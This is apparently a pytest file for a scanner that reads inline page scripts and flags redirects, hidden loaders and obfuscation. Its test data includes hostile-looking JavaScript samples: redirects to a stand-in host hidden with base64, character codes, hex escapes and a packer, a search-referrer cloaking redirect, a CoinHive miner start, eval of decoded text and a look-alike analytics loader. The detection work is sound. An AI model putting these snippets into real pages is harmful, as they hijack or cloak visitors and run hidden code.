"""What scripts in a page do to a visitor, as far as their text shows."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checks.evidence.page import CodeMark
from checks.parsing.html.code import markup_written, read_code
from checks.parsing.html.targets import Targets

HOME = "https://truong.edu.vn/"
AWAY = "https://xa.example/k"
CODED = base64.b64encode(AWAY.encode()).decode()
NUMBERS = ",".join(str(ord(sign)) for sign in AWAY)
HEX = "".join(f"\\x{ord(sign):02x}" for sign in AWAY)
PLUGIN = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'jQuery|fn'.split('|'),0,{}))"


@pytest.mark.parametrize(
    ("code", "moves"),
    [
        pytest.param(f"location.href='{AWAY}'", (AWAY,), id="href"),
        pytest.param(f'window.location = "{AWAY}";', (AWAY,), id="location"),
        pytest.param(f"top.location.replace('{AWAY}')", (AWAY,), id="replace"),
        pytest.param(
            f"setTimeout(function(){{location='{AWAY}'}},3000)", (AWAY,), id="after-a-while"
        ),
        pytest.param(
            f"(function(){{window.location.assign('{AWAY}')}})()", (AWAY,), id="called-at-once"
        ),
        pytest.param(f"function di(){{location='{AWAY}'}} di();", (AWAY,), id="called-by-name"),
        pytest.param(
            f"function di(){{location='{AWAY}'}} window.onload=di;", (AWAY,), id="called-on-load"
        ),
        pytest.param(f"function di(){{location='{AWAY}'}}", (), id="never-called"),
        pytest.param(
            f"b.addEventListener('click', function(){{location='{AWAY}'}})", (), id="on-click"
        ),
        pytest.param(
            f"$('#b').on('click', function(e){{location='{AWAY}'}})", (), id="on-click-of-jquery"
        ),
        pytest.param(f"b.onclick = function() {{ location='{AWAY}' }}", (), id="handler"),
        pytest.param(
            f"$(document).ready(function(){{location='{AWAY}'}})", (AWAY,), id="when-ready"
        ),
        pytest.param(f"var u=atob('{CODED}');location.href=u", (AWAY,), id="base64"),
        pytest.param(f"location.href=atob('{CODED}')", (AWAY,), id="base64-at-once"),
        pytest.param(f"location=String.fromCharCode({NUMBERS})", (AWAY,), id="numbers"),
        pytest.param(f'location="{HEX}"', (AWAY,), id="escapes"),
        pytest.param("if (location.href == '/a') x()", (), id="asked-only"),
        pytest.param("mylocation='/a'; a.location2='/b'", (), id="other-names"),
        pytest.param("location='/moi'", (f"{HOME}moi",), id="own"),
    ],
)
def test_moves(code: str, moves: tuple[str, ...]) -> None:
    """Code that runs by itself sends the visitor away; code that waits for a click does not."""
    found = read_code(code, Targets(HOME))
    assert (found.moves if found else ()) == moves


PREFIX = 'var g = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");'
ANALYTICS = """"%3Cscript src='" + g + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\""""


@pytest.mark.parametrize(
    ("code", "marks"),
    [
        pytest.param(f"if(document.referrer.indexOf('google')>0)location='{AWAY}'", (CodeMark.MOVES_SEARCHERS,), id="searchers"),
        pytest.param("new CoinHive.Anonymous('k').start()", (CodeMark.MINER,), id="miner"),
        pytest.param(f"eval(atob('{CODED}'))", (CodeMark.RUNS_DECODED,), id="runs-decoded"),
        pytest.param(f"document.write(unescape('%3Cscript%3E{CODED}'))", (CodeMark.RUNS_DECODED,), id="writes-decoded"),
        pytest.param("document.write(unescape('%3Cdiv%20id%3D%22gio%22%3E%3C/div%3E'))", (), id="writes-a-clock"),
        pytest.param("document.write(unescape('%3Cimg%20onerror%3Dx%3E'))", (CodeMark.RUNS_DECODED,), id="writes-what-runs"),
        pytest.param("document.write(unescape('%253Cscript'))", (CodeMark.RUNS_DECODED,), id="writes-what-is-coded-twice"),
        pytest.param("document.write(unescape(a))", (CodeMark.RUNS_DECODED,), id="writes-what-is-not-seen"),
        pytest.param("document.write(unescape('%3Cp' + a))", (CodeMark.RUNS_DECODED,), id="writes-what-is-partly-seen"),
        pytest.param("document.write(unescape(a()))", (CodeMark.RUNS_DECODED,), id="writes-what-another-says"),
        pytest.param("document.write(unescape(a));document.write(unescape('%3Ciframe'))", (CodeMark.RUNS_DECODED,), id="writes-both"),
        pytest.param(f"{PREFIX}document.write(unescape({ANALYTICS}))", (), id="writes-analytics"),
        pytest.param(f"var g='//xa.example/';document.write(unescape({ANALYTICS}))", (CodeMark.RUNS_DECODED,), id="writes-analytics-of-another"),
        pytest.param(f"{PREFIX}document.write(unescape({ANALYTICS.replace('google-', 'goog1e-')}))", (CodeMark.RUNS_DECODED,), id="writes-another-loader"),
        pytest.param(f"{PREFIX}document.write(unescape({ANALYTICS.replace('+ g +', '+ g + x +')}))", (CodeMark.RUNS_DECODED,), id="writes-another-host"),
        pytest.param(f"s.src=atob('{CODED}')", (CodeMark.LOADS_DECODED,), id="loads-decoded"),
        pytest.param(PLUGIN, (CodeMark.PACKED,), id="packer"),
        pytest.param("var _0x1a2b=['a'];" + "_0x1a2b(_0x3c4d);" * 12, (CodeMark.PACKED,), id="hexadecimal-names"),
        pytest.param("var _0x1a2b=['a'];" * 11, (), id="a-few-such-names"),
        pytest.param("var a='" + "\\x41" * 30 + "'", (CodeMark.PACKED,), id="escapes"),
        pytest.param("var a='" + "\\x41" * 29 + "'", (), id="fewer-escapes"),
        pytest.param("JSON.parse(atob(x)); var e = evaluate(atob(y))", (), id="only-decodes"),
    ],
)  # fmt: skip
def test_marks(code: str, marks: tuple[CodeMark, ...]) -> None:
    """Each mark, and code that only looks alike."""
    found = read_code(code, Targets(HOME))
    assert (found.marks if found else ()) == marks


PACKED = "eval(function(p,a,c,k,e,d){return p}('0.1=\\'2://3.4/5\\'',6,6,'top|location|https|xa|example|k'.split('|'),0,{}))"


@pytest.mark.parametrize(
    ("code", "hosts"),
    [
        pytest.param(f'var u="{AWAY}"', ("xa.example",), id="address"),
        pytest.param('var h=["a-b.vip","c.top"]', ("a-b.vip", "c.top"), id="bare-names"),
        pytest.param("load('menu.min.js','/css/a.css','img.png')", (), id="files"),
        pytest.param("$('.a.b').on('click.x', f)", (), id="selectors"),
        pytest.param(f"var u='{AWAY[::-1]}'.split('').reverse().join('')", ("elpmaxe.ax", "xa.example"), id="reversed"),
        pytest.param(f"atob('{CODED[::-1]}'.split('').reverse().join(''))", ("xa.example",), id="base64-reversed"),
        pytest.param(f"var c=[{NUMBERS}];String.fromCharCode.apply(null,c)", ("xa.example",), id="list-of-numbers"),
        pytest.param(f"var c=[{NUMBERS}]", (), id="numbers-that-are-none"),
        pytest.param(PACKED, ("xa.example",), id="packed"),
        pytest.param(PACKED.replace(",6,6,", ",99,6,"), (), id="packed-with-no-such-radix"),
        pytest.param(PACKED.replace(",6,6,", ",6,9,"), (), id="packed-with-words-missing"),
        pytest.param(PACKED.replace("0.1", "0.1.zzz.99999"), ("xa.example",), id="packed-with-other-words"),
        pytest.param("x=decodeURIComponent('https%3A%2F%2Fxa.example%2F')", ("xa.example",), id="percent"),
        pytest.param("atob('!!!!')", (), id="no-base64"),
        pytest.param("s.src='//truong.edu.vn/a.js'", (), id="own"),
        pytest.param(";".join(f"a='h{n}.example'" for n in range(60)), tuple(f"h{n}.example" for n in range(20)), id="many"),
        pytest.param("'" + " ".join(f"//h{n}.example/x" for n in range(60)) + "'", tuple(f"h{n}.example" for n in range(20)), id="many-addresses"),
        pytest.param("reverse();" + ";".join(f"a='{'abcdefghijkl' + str(n)}'" for n in range(30)), (), id="many-codes"),
        pytest.param(";".join(f"atob('YWJjZA{n:02d}')" for n in range(40)), (), id="many-decoders"),
        pytest.param("fromCharCode;" + ";".join(["[104,116,116,112,58,47,47,97]"] * 9), (), id="many-lists"),
    ],
)  # fmt: skip
def test_hosts_that_a_script_names(code: str, hosts: tuple[str, ...]) -> None:
    """In its literals, and in what it decodes; names of files and selectors are none."""
    found = read_code(code, Targets(HOME))
    assert (found.hosts if found else ()) == hosts


@pytest.mark.parametrize(
    ("code", "moves"),
    [
        pytest.param('var u="https://xa.example/k";window["loc"+"ation"]=u', (), id="joined-without-decoding"),
        pytest.param(f'window["loc"+"ation"]="{AWAY}"', (AWAY,), id="joined-name"),
        pytest.param("location.href='https://www.'+location.host", (), id="a-beginning"),
        pytest.param("location.href='https://xa.example/?u='+u", ("https://xa.example/?u=",), id="a-whole-host-and-more"),
        pytest.param(";".join(f"location='https://a{n}.example/'" for n in range(9)), tuple(f"https://a{n}.example/" for n in range(5)), id="many"),
    ],
)  # fmt: skip
def test_moves_put_together(code: str, moves: tuple[str, ...]) -> None:
    """Names in brackets are read; an address that is only begun leads nowhere known."""
    found = read_code(code, Targets(HOME))
    assert (found.moves if found else ()) == moves


def test_many_loads_are_cut() -> None:
    """Ten are enough for anybody."""
    code = ";".join(f"s.src='https://a{n}.example/x.js'" for n in range(30))
    found = read_code(code, Targets(HOME))
    assert found is not None
    assert len(found.loads) == 10


def test_what_a_script_loads() -> None:
    """Scripts and frames that it writes into the page."""
    found = read_code(
        "s.src='//a.example/x.js';document.write('<iframe src=\"https://b.example/\"></iframe>')",
        Targets(HOME),
    )
    assert found is not None
    assert found.loads == ("https://a.example/x.js", "https://b.example/")


def test_the_excerpt_is_masked() -> None:
    """No telephone number is kept with it."""
    found = read_code("/* 0905 123 456 */ eval(atob('x'))", Targets(HOME))
    assert found is not None
    assert "0905" not in found.excerpt


def test_markup_that_is_written() -> None:
    """Joined literals, escapes and decoded texts."""
    assert markup_written("document.write('<a href=\"https://a.example/\">'+'x</a>')").startswith(
        "<a href"
    )
    assert "a.example" in markup_written("el.innerHTML='\\x3ca href=\"https://a.example/\">x</a>'")
    assert markup_written("var a = '<a href=x>'") == ""


@given(st.text(alphabet="location=('\"`)atobevalunescape.srcfunction{};%\\x41 \n", max_size=400))
def test_any_code_can_be_read(code: str) -> None:
    """Scripts are hostile text."""
    read_code(code, Targets(HOME))
    markup_written(code)
